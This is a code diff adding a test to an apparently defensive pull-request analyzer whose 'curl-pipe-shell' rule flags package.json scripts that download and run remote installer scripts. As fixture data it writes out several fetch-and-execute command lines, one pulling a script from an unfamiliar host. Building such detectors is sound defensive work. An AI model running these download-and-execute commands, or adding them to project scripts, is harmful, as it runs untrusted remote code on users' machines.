@@ -1575,6 +1575,21 @@ ${uses.map((u) => `      - uses: ${u}`).join('\n')}
     expect(pipes(snapshotOf(change('package.json', base, manifest({ build: 'tsc -p .', 'setup:tools': 'curl -fsSLo t.sh https://get.tool.dev/install.sh && sha256sum -c t.sh.sha256 && sh t.sh' }))))).toEqual([]);
   });
 
+  it('reports each script a package script downloads and runs, once per source; not one the base already ran, nor the same source twice', () => {
+    const pipes = (snapshot: PrSnapshot) => analyze(snapshot).findings.filter((f) => f.id === 'curl-pipe-shell').map((f) => f.detail.match(/downloads (\S+)/)?.[1]);
+    const manifest = (scripts: Record<string, string>) => `${JSON.stringify({ name: 'web', scripts }, null, 2)}\n`;
+    const uv = 'curl -LsSf -o /tmp/uv.sh https://astral.sh/uv/install.sh && sh /tmp/uv.sh';
+    const stranger = 'curl -fsSL -o /tmp/w.sh https://npm-warm-cache.dev/setup.sh && bash /tmp/w.sh';
+    // Two installers in one new script: each is a finding.
+    expect(pipes(snapshotOf(change('package.json', manifest({ build: 'tsc -p .' }), manifest({ build: 'tsc -p .', 'setup:tools': `${uv} && ${stranger}` }))))).toEqual(['https://astral.sh/uv/install.sh', 'https://npm-warm-cache.dev/setup.sh']);
+    // The base ran uv's installer: only the stranger's script the PR adds after it.
+    expect(pipes(snapshotOf(change('package.json', manifest({ 'setup:tools': uv }), manifest({ 'setup:tools': `${uv} && ${stranger}` }))))).toEqual(['https://npm-warm-cache.dev/setup.sh']);
+    // The same source twice (two versions, or downloaded again) is one; a base that ran both reports none.
+    const twice = 'curl -fsSL -o /tmp/a.sh https://get.tool.dev/1.2.0/install.sh && sh /tmp/a.sh && curl -fsSL -o /tmp/b.sh https://get.tool.dev/1.3.0/install.sh && sh /tmp/b.sh';
+    expect(pipes(snapshotOf(change('package.json', manifest({ build: 'tsc -p .' }), manifest({ build: 'tsc -p .', 'setup:tools': twice }))))).toEqual(['https://get.tool.dev/1.2.0/install.sh']);
+    expect(pipes(snapshotOf(change('package.json', manifest({ 'setup:tools': `${uv} && ${stranger}` }), manifest({ 'setup:tools': `${stranger} && ${uv} --quiet` }))))).toEqual([]);
+  });
+
   it('does not report curl-pipe-shell for a new job that pipes an installer another job of the workflow already pipes (kubebuilder #5043); does for a new one', () => {
     const helmJob = (id: string, script = 'get-helm-3') => `
   ${id}:
